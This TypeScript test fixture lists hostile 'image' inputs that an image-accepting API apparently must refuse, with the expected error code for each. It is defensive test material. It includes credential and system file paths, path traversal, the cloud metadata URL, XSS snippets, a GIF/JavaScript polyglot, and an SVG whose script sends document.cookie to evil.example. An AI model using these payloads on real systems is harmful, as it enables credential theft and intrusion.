// Values an agent (or an attacker) may put where an image belongs: file paths, URLs and files that are
// not images. Each must be refused before any price is asked, with the status and code given here, and
// never reach a runner, let alone Ollama. Runtime-neutral (Node and workerd): no Buffer.

export interface HostileImage {
  name: string;
  value: string;
  status: 400 | 415;
  code: "image_path_not_supported" | "image_url_not_supported" | "unsupported_image_type" | "invalid_image_encoding" | "invalid_image" | "image_dimensions_out_of_range";
}

const bytes = (...parts: Array<string | number[]>): Uint8Array =>
  Uint8Array.from(parts.flatMap((part) => (typeof part === "string" ? Array.from(part, (c) => c.charCodeAt(0)) : part)));
const b64 = (data: Uint8Array): string => btoa(String.fromCharCode(...data));
const b64Text = (text: string): string => b64(new TextEncoder().encode(text));

const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const SVG_WITH_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("//evil.example/?c="+document.cookie)</script></svg>';

export const FILE_PATHS: HostileImage[] = [
  { name: "/etc/passwd", value: "/etc/passwd", status: 400, code: "image_path_not_supported" },
  { name: "~/.ssh/id_rsa", value: "~/.ssh/id_rsa", status: 400, code: "image_path_not_supported" },
  { name: "an absolute path to a private key", value: "/home/operator/.edge402/runner-key.json", status: 400, code: "image_path_not_supported" },
  { name: "/proc/self/environ", value: "/proc/self/environ", status: 400, code: "image_path_not_supported" },
  { name: "a relative path", value: "./images/cat.png", status: 400, code: "image_path_not_supported" },
  { name: "a path climbing out", value: "../../../../etc/shadow", status: 400, code: "image_path_not_supported" },
  { name: "a path that is valid base64", value: "/usr/bin/python3", status: 400, code: "image_path_not_supported" },
  { name: "a path that starts like a JPEG's base64", value: "/9j/../../../etc/passwd", status: 400, code: "image_path_not_supported" },
  { name: "a Windows path", value: "C:\\Windows\\System32\\config\\SAM", status: 400, code: "image_path_not_supported" },
  { name: "a Windows path with slashes", value: "C:/Users/operator/.ssh/id_rsa", status: 400, code: "image_path_not_supported" },
  { name: "a UNC path", value: "\\\\fileserver\\share\\cat.png", status: 400, code: "image_path_not_supported" },
  { name: "a file: URL", value: "file:///etc/passwd", status: 400, code: "image_url_not_supported" },
];

export const URLS: HostileImage[] = [
  { name: "the cloud metadata address", value: "http://169.254.169.254/latest/meta-data/iam/", status: 400, code: "image_url_not_supported" },
  { name: "an https URL", value: "https://example.com/cat.png", status: 400, code: "image_url_not_supported" },
  { name: "an upper-case URL", value: "HTTPS://EXAMPLE.COM/CAT.PNG", status: 400, code: "image_url_not_supported" },
  { name: "a scheme-relative URL", value: "//evil.example/cat.png", status: 400, code: "image_url_not_supported" },
  { name: "an ftp URL", value: "ftp://files.example/cat.png", status: 400, code: "image_url_not_supported" },
  { name: "a blob URL", value: "blob:https://example.com/0b6c-4e2a", status: 400, code: "image_url_not_supported" },
  { name: "a data: URL of text", value: `data:text/plain;base64,${b64Text("hello, this is not an image at all")}`, status: 415, code: "unsupported_image_type" },
  { name: "a data: URL of a PDF", value: `data:application/pdf;base64,${b64Text("%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n")}`, status: 415, code: "unsupported_image_type" },
  { name: "a data: URL of an SVG with a script", value: `data:image/svg+xml;base64,${b64Text(SVG_WITH_SCRIPT)}`, status: 415, code: "unsupported_image_type" },
  { name: "a percent-encoded data: URL", value: "data:image/png,%89PNG%0D%0A%1A%0A%00%00%00%0DIHDR", status: 400, code: "invalid_image_encoding" },
];

export const NOT_IMAGES: HostileImage[] = [
  { name: "text", value: b64Text("just some text that somebody pasted instead of an image"), status: 415, code: "unsupported_image_type" },
  { name: "a PDF", value: b64(bytes("%PDF-1.7\n%", [0xe2, 0xe3, 0xcf, 0xd3], "\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")), status: 415, code: "unsupported_image_type" },
  { name: "a ZIP", value: b64(bytes([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0], new Array(16).fill(0), [5, 0, 0, 0], "a.txt")), status: 415, code: "unsupported_image_type" },
  { name: "an SVG with a script", value: b64Text(SVG_WITH_SCRIPT), status: 415, code: "unsupported_image_type" },
  { name: "HTML", value: b64Text("<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"), status: 415, code: "unsupported_image_type" },
  { name: "an ELF executable", value: b64(bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], new Array(8).fill(0), [2, 0, 0x3e, 0, 1, 0, 0, 0])), status: 415, code: "unsupported_image_type" },
  { name: "a GIF/JavaScript polyglot", value: b64(bytes("GIF89a/*", [0, 0, 0, 0], "*/=1;alert(document.domain);//")), status: 400, code: "image_dimensions_out_of_range" },
  { name: "a PNG signature in front of HTML", value: b64(bytes(PNG_SIGNATURE, "<html><script>alert(1)</script></html>")), status: 400, code: "invalid_image" },
  { name: "a JPEG start in front of a script", value: b64(bytes([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x20], "<script>alert(1)</script>......", [0xff, 0xd9])), status: 400, code: "invalid_image" },
  { name: "a PDF with a JPEG inside", value: b64(bytes("%PDF-1.5\n", [0xff, 0xd8, 0xff, 0xe0], "\nendobj\n")), status: 415, code: "unsupported_image_type" },
];

export const HOSTILE_IMAGES: HostileImage[] = [...FILE_PATHS, ...URLS, ...NOT_IMAGES];
